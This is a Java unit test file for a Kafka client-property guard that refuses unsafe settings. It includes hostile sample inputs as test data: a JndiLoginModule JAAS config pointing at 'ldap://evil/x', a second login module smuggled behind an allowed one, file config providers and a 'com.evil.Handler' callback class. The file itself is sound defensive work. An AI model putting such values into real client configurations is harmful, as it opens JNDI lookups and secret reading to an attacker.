package io.imsg.kafka.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.imsg.kafka.KafkaSettings;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ClientPropertyGuardTest {

    private static final String SECRET = "s3cr3t-Pa55";

    private static KafkaSettings.Builder settings() {
        return KafkaSettings.builder().bootstrapServers("127.0.0.1:1").service("svc");
    }

    @Test
    void aJndiLoginModuleIsRefusedNamingTheModuleButNotThePassword() {
        String jaas = "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil/x\" password=\""
                + SECRET + "\";";

        assertThatThrownBy(() -> settings().clientProperty("sasl.jaas.config", jaas).build())
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("clientProperty 'sasl.jaas.config' is not allowed")
                .hasMessageContaining("JndiLoginModule")
                .hasMessageNotContaining(SECRET);
    }

    @Test
    void aSecondLoginModuleBehindAnAllowedOneIsRefused() {
        String jaas = "org.apache.kafka.common.security.scram.ScramLoginModule required username=\"a\" password=\"b\";"
                + " com.sun.security.auth.module.JndiLoginModule required;";

        assertThatThrownBy(() -> settings().clientProperty("sasl.jaas.config", jaas).build())
                .hasMessageContaining("JndiLoginModule");
    }

    @Test
    void aMalformedJaasConfigIsRefusedWithoutEchoingIt() {
        assertThatThrownBy(() -> settings().clientProperty("sasl.jaas.config",
                "org.apache.kafka.common.security.scram.ScramLoginModule required password=\"" + SECRET).build())
                .hasMessageContaining("not a valid JAAS configuration")
                .hasMessageNotContaining(SECRET);
    }

    @Test
    void scramPlainAndOauthLoginModulesAreAccepted() {
        assertThatCode(() -> settings()
                .clientProperty("sasl.jaas.config", "org.apache.kafka.common.security.scram.ScramLoginModule required"
                        + " username=\"alice\" password=\"" + SECRET + "\";")
                .build()).doesNotThrowAnyException();
        assertThatCode(() -> settings()
                .clientProperty("sasl.jaas.config", "org.apache.kafka.common.security.plain.PlainLoginModule required"
                        + " username=\"alice\" password=\"x\";")
                .build()).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(strings = {"config.providers", "config.providers.file.class", "CONFIG.PROVIDERS.env.param.x"})
    void configProvidersAreRefused(String name) {
        assertThatThrownBy(() -> settings().clientProperty(name, "org.apache.kafka.common.config.provider.FileConfigProvider").build())
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("'" + name + "' is not allowed: config providers");
    }

    @ParameterizedTest
    @ValueSource(strings = {"value.deserializer", "key.serializer", "enable.auto.commit", "acks"})
    void settingsIMsgOwnsAreRefused(String name) {
        assertThatThrownBy(() -> settings().clientProperty(name, "x").build())
                .hasMessageContaining("'" + name + "' is not allowed: iMSG sets it itself");
    }

    @Test
    void callbackHandlersMustBeKafkasOwnClasses() {
        assertThatThrownBy(() -> settings().clientProperty("sasl.login.callback.handler.class", "com.evil.Handler").build())
                .hasMessageContaining("only Kafka's own classes");
        assertThatCode(() -> settings().clientProperty("sasl.login.callback.handler.class",
                "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginCallbackHandler").build())
                .doesNotThrowAnyException();
    }

    @Test
    void buildingAnyClientConfigDisablesAutomaticConfigProviders() {
        String before = System.getProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS);
        System.clearProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS);
        try {
            io.imsg.kafka.internal.ClientConfigs.admin(settings().build());

            assertThat(System.getProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS)).isEqualTo("none");
        } finally {
            if (before == null) {
                System.clearProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS);
            } else {
                System.setProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS, before);
            }
        }
    }

    @Test
    void anOperatorsExplicitChoiceIsKept() {
        String before = System.getProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS);
        System.setProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS, "org.apache.kafka.common.config.provider.EnvVarConfigProvider");
        try {
            JvmHardening.apply();

            assertThat(System.getProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS)).endsWith("EnvVarConfigProvider");
        } finally {
            if (before == null) {
                System.clearProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS);
            } else {
                System.setProperty(JvmHardening.AUTOMATIC_CONFIG_PROVIDERS, before);
            }
        }
    }
}
